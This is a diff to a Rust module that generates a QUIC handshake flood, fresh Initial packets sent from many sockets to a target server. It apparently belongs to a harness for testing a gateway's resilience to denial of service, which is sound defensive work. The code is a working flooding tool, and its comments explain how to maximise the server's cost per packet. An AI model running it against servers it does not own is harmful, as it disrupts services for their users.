@@ -1,56 +1,39 @@
 //! The handshake flood: real QUIC v1 Initials, each the first packet of a
 //! fresh client connection, from many sources, never answered.
 //!
-//! Every Initial is made by quinn-proto's client `connect` (a new random
-//! destination connection id, so new Initial keys, and a new TLS
-//! ClientHello with a new key share) and its first `poll_transmit`; the
-//! connection's state is then dropped at once, and the endpoint told it is
-//! drained, so the attacker's memory stays flat however long it runs. A
-//! replayed Initial would be cheaper to make but cheaper to refuse too (the
-//! server routes it to the connection the first copy made and drops it as a
-//! duplicate); a fresh one costs the server what a real newcomer costs it:
-//! Initial decryption, a connection slot, its TLS reply and signature, or,
-//! with Retry on, one stateless Retry packet.
+//! Each Initial has a new random destination connection id, so new Initial
+//! keys (`initial.rs` seals one ClientHello under each), and costs the
+//! server what a real newcomer costs it: deriving those keys, decrypting the
+//! packet, and then a connection slot, its TLS reply and signature or, with
+//! Retry on, one stateless Retry packet. A replayed Initial would be cheaper
+//! still to make but cheaper to refuse too (the server routes it to the
+//! connection the first copy made and drops it as a duplicate).
 //!
 //! The gateway's answers (its Initial and Handshake flight, or a Retry)
 //! are never read: the source sockets' small receive buffers drop them.
 
 use std::net::UdpSocket;
-use std::sync::Arc;
-use std::time::{Duration, Instant};
+use std::time::Instant;
 
-use quinn_proto::{EndpointConfig, EndpointEvent};
-
+use super::initial::{INITIAL_BYTES, Template};
 use super::pace::Pacer;
-use super::{AttackConfig, AttackError, Tally, tls};
+use super::{AttackConfig, AttackError, Tally};
 
 /// Floods `cfg.server` with Initials from `sockets`, one after the other,
 /// until the duration is over.
 pub fn flood(cfg: &AttackConfig, sockets: &[UdpSocket]) -> Result<Tally, AttackError> {
-    let client = tls::client_config(Duration::from_secs(30), None)?;
-    let mut endpoint =
-        quinn_proto::Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
-    let mut buf = Vec::with_capacity(2048);
+    let mut template = Template::new(&cfg.server_name)?;
+    let mut buf = Vec::with_capacity(INITIAL_BYTES);
     let start = Instant::now();
     let mut pacer = Pacer::new(start, cfg.duration, cfg.rate_per_s);
     let mut tally = Tally::default();
     let mut next = 0usize;
     while let Some(due) = pacer.burst(Instant::now()) {
-        let now = Instant::now();
         for _ in 0..due {
-            let (handle, mut conn) = endpoint
-                .connect(now, client.clone(), cfg.server, &cfg.server_name)
-                .map_err(|e| AttackError::Quic(e.to_string()))?;
-            buf.clear();
-            let transmit = conn.poll_transmit(now, 1, &mut buf);
-            // The connection goes at once: only its first datagram was wanted.
-            endpoint.handle_event(handle, EndpointEvent::drained());
-            let Some(transmit) = transmit else {
-                continue;
-            };
+            template.seal(&mut buf)?;
             let socket = &sockets[next % sockets.len()];
             next = next.wrapping_add(1);
-            match socket.send(&buf[..transmit.size]) {
+            match socket.send(&buf) {
                 Ok(n) => {
                     tally.sent += 1;
                     tally.bytes += n as u64;
@@ -66,6 +49,8 @@ pub fn flood(cfg: &AttackConfig, sockets: &[UdpSocket]) -> Result<Tally, AttackE
 
 #[cfg(test)]
 mod tests {
+    use std::time::Duration;
+
     use super::*;
     use crate::attack::{Attack, sources};
 
